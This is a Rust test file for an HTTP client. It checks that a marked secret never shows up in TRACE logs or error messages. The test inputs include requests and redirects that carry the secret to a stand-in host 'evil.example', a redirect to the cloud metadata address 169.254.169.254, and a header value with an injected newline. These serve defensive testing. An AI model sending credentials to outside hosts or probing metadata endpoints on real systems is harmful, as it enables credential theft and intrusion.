//! A marked secret, everything at TRACE, every error formatted, and all of it searched.

use std::{fmt::Write, io};

use tracing_subscriber::fmt::MakeWriter;

use super::{
    server::{Reply, Server, answer},
    *,
};
use crate::{
    clock::SystemClock,
    http::{Gateway, TokenSource},
};

/// Keeps what is logged.
#[derive(Debug, Clone, Default)]
struct Log(Arc<Mutex<Vec<u8>>>);

impl io::Write for Log {
    fn write(&mut self, bytes: &[u8]) -> io::Result<usize> {
        self.0.lock().unwrap().extend_from_slice(bytes);
        Ok(bytes.len())
    }

    fn flush(&mut self) -> io::Result<()> {
        Ok(())
    }
}

impl<'a> MakeWriter<'a> for Log {
    type Writer = Self;

    fn make_writer(&'a self) -> Self::Writer {
        self.clone()
    }
}

/// The grant with each kind of credential, by its name.
fn grant() -> Grant {
    let mut grant = lever();
    grant.credentials.extend(super::credentials::kinds().into_iter().map(|(kind, it)| (kind.to_owned(), it)));
    let secret = Secret::new(SECRET);
    let source = TokenSource::new("https://login.example.com/login", Secret::new("client"), secret, None);
    let token = Credential::oauth2(source.unwrap(), vec![grant.origins[0].clone()]);
    grant.credentials.insert("token".to_owned(), token);
    grant
}

fn asks() -> Vec<Request> {
    let api = |path: &str| Request {
        credential: Some("api".into()),
        ..Request::get(format!("https://api.lever.co/{path}?token={SECRET}"))
    };
    let header = |name: &str| vec![(name.to_owned(), SECRET.to_owned())];
    vec![
        api("ok"),
        api("cut"),
        api("away"),
        api("metadata"),
        api("broken"),
        Request { headers: header("authorization"), ..api("ok") },
        Request { headers: vec![("x-bad".into(), format!("{SECRET}\n"))], ..api("ok") },
        Request { credential: Some("other".into()), ..api("ok") },
        Request::get(format!("https://user:{SECRET}@api.lever.co/")),
        Request::get(format!("https://evil.example/?password={SECRET}")),
        Request::get(format!("https://api.lever.co:99999/{SECRET}")),
        Request { credential: Some("api".into()), ..Request::get("https://jobs.lever.co/") },
        Request { body: Some(SECRET.into()), ..api("ok") },
    ]
    .into_iter()
    .chain(["query", "path", "headers", "token"].into_iter().flat_map(|kind| {
        let paths = ["ok", "cut", "away", "metadata", "broken"];
        paths.map(|path| Request {
            credential: Some(kind.to_owned()),
            ..Request::get(format!("https://api.lever.co/{path}"))
        })
    }))
    .collect()
}

#[tokio::test]
async fn no_log_line_and_no_error_shows_a_secret() {
    let server = Server::start(|_, head| match head.split(['/', '?', ' ']).nth(3).unwrap() {
        "cut" => Reply::Close(b"HTTP/1.1 200 OK\r\ncontent-length: 9\r\n\r\nx".to_vec()),
        "away" => Reply::Keep(answer(
            "302 Found",
            &format!("location: https://evil.example/?key={SECRET}\r\n"),
            b"",
        )),
        "login" => {
            let token = format!("{{\"access_token\":\"{SECRET}-as-a-token\",\"expires_in\":900}}");
            Reply::Keep(answer("200 OK", "", token.as_bytes()))
        }
        "metadata" => Reply::Keep(answer("302 Found", "location: https://169.254.169.254/\r\n", b"")),
        "broken" => Reply::Keep(answer(
            "200 OK",
            &format!("content-encoding: gzip\r\nset-cookie: {SECRET}\r\n"),
            b"x",
        )),
        _ => Reply::Keep(answer("200 OK", &format!("set-cookie: {SECRET}\r\n"), b"fine")),
    })
    .await;
    let log = Log::default();
    let subscriber =
        tracing_subscriber::fmt().with_max_level(tracing::Level::TRACE).with_writer(log.clone()).finish();
    let _active = tracing::subscriber::set_default(subscriber);
    let gateway = Some(Gateway::parse(&format!("http://{}", server.address)).unwrap());
    let memory = Arc::new(MemoryInProcess::default());
    let client =
        HttpClient::new(HttpSettings { gateway, ..fast() }, Arc::new(SystemClock), memory, 1).unwrap();
    let scope = scope(grant());
    let mut shown = format!("{client:?} {scope:?} {:?}", asks());
    for request in asks() {
        match client.fetch(&scope, request).await {
            Ok(answer) => writeln!(shown, "{:?}", answer.headers).unwrap(),
            Err(error) => writeln!(shown, "{error} {error:?}").unwrap(),
        }
    }
    // The secret did travel, so that its absence elsewhere means something.
    let heads = server.heads();
    assert!(heads[0].contains(&format!("bearer {SECRET}")));
    for form in ["?app_id=1c2d3e4f&app_key=SECRET", "/ok/SECRET", "x-key: SECRET", "bearer SECRET-as-a-token"]
    {
        let form = form.replace("SECRET", SECRET);
        assert!(heads.iter().any(|head| head.contains(&form)), "{form}");
    }
    shown += &String::from_utf8(log.0.lock().unwrap().clone()).unwrap();
    assert!(shown.contains("api.lever.co") && shown.contains("not granted"));
    assert!(!shown.contains(SECRET), "{shown}");
}
